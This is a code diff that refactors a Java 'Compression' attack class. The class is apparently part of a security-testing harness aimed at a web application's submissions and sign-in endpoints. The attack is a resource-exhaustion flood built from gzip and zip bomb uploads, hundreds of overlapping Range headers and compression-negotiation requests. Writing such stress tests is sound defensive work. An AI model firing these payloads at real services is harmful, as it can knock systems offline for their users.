@@ -4,6 +4,7 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.OutputStream;
 import java.io.UncheckedIOException;
+import java.util.List;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.zip.GZIPOutputStream;
@@ -16,8 +17,7 @@ final class Compression implements Attack {
     private static final int REQUESTS = 4000;
     private static final int BLOCK = 1 << 20;
     private static final Pattern ASSET = Pattern.compile("\"(/assets/[^\"]+)\"");
-    private String token = "";
-    private String asset = "/sign-in";
+    private List<byte[]> requests = List.of();
 
     @Override
     public String summary() {
@@ -26,30 +26,25 @@ final class Compression implements Attack {
 
     @Override
     public void prepare(Attacker attacker) throws IOException, InterruptedException {
-        token = attacker.staff().studentToken("attacker");
+        String bearer = Request.bearer(attacker.staff().studentToken("attacker"));
         Wire wire = attacker.connect();
         wire.begin(Request.get(SignIn.PATH));
         Matcher found = ASSET.matcher(wire.read().body());
-        if (found.find()) {
-            asset = found.group(1);
-        }
+        String asset = found.find() ? found.group(1) : SignIn.PATH;
+        byte[] gzip = gzip();
+        requests = List.of(
+                Request.post("/api/v1/submissions", Bodies.JSON, gzip, "Content-Encoding: gzip", bearer),
+                Request.post("/sign-in", Bodies.FORM, gzip, "Content-Encoding: gzip"),
+                Request.post("/api/v1/submissions", Bodies.MULTIPART, Bodies.file("bomb.zip", zip()), bearer),
+                Request.get(asset, "Range: bytes=" + "0-,".repeat(900) + "0-"),
+                Request.get(asset, "Range: bytes=" + ranges()),
+                Request.get("/v3/api-docs", "Accept-Encoding: gzip"),
+                Request.get("/sign-in", "Accept-Encoding: gzip, deflate, br, zstd, *;q=0.1", "TE: gzip"));
     }
 
     @Override
     public void run(Attacker attacker) throws InterruptedException {
-        byte[] zip = zip();
-        byte[] gzip = gzip();
-        String bearer = Request.bearer(token);
-        byte[][] requests = {
-            Request.post("/api/v1/submissions", Bodies.JSON, gzip, "Content-Encoding: gzip", bearer),
-            Request.post("/sign-in", Bodies.FORM, gzip, "Content-Encoding: gzip"),
-            Request.post("/api/v1/submissions", Bodies.MULTIPART, Bodies.file("bomb.zip", zip), bearer),
-            Request.get(asset, "Range: bytes=" + "0-,".repeat(900) + "0-"),
-            Request.get(asset, "Range: bytes=" + ranges()),
-            Request.get("/v3/api-docs", "Accept-Encoding: gzip"),
-            Request.get("/sign-in", "Accept-Encoding: gzip, deflate, br, zstd, *;q=0.1", "TE: gzip")
-        };
-        attacker.flood(CONNECTIONS, REQUESTS, number -> requests[number % requests.length]);
+        attacker.flood(CONNECTIONS, REQUESTS, number -> requests.get(number % requests.size()));
     }
 
     private static String ranges() {
